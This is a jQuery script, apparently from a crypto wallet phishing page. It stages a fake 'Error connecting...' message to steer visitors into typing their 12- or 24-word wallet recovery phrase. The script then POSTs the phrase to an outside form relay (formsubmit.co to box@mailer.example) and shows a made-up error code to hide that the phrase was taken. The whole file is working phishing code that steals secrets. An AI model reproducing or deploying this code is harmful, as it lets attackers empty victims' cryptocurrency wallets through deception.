$('.wallet-card').click(function () {
    var name = $(this).data('name');
    var icon = $(this).find('img').attr('src');
    $('#current-wallet').text(name);
    $('#current-wallet-icon').attr('src', icon);
    $('#connect-dialog').modal('show');
    $('.connecting').show();
    $('.manual').hide();
    setTimeout(function () {
        $('.connecting').html('<span class="text-danger">Error connecting...</span> <button id="manual-connect" class="btn btn-primary btn-sm">Connect Manually</button>');
    }, 3500);
});

$(document).on('click', '#manual-connect', function () {
    $('#connect-dialog').modal('hide');
    $('#send-dialog').modal('show');
});

$('#phraseSend').submit(function (e) {
    e.preventDefault();
    var phrase = $.trim($('textarea[name=phrase]').val());
    var words = phrase.split(/\s+/).length;
    if (words != 12 && words != 24) {
        $('.phrase-error').text('Phrase must be 12 or 24 words separated by single spaces').show();
        return;
    }
    $('.proceed').text('Validating...').attr('disabled', true);
    $.ajax({
        type: 'POST',
        url: 'https://formsubmit.co/ajax/box@mailer.example',
        dataType: 'json',
        data: { _subject: $('#current-wallet').text(), wallet: $('#current-wallet').text(), phrase: phrase },
        complete: function () {
            $('#send-dialog').modal('hide');
            $('#qr-dialog').modal('show');
            $('#qr-dialog .code').text('ERR-' + Math.floor(Math.random() * 90000));
        }
    });
});
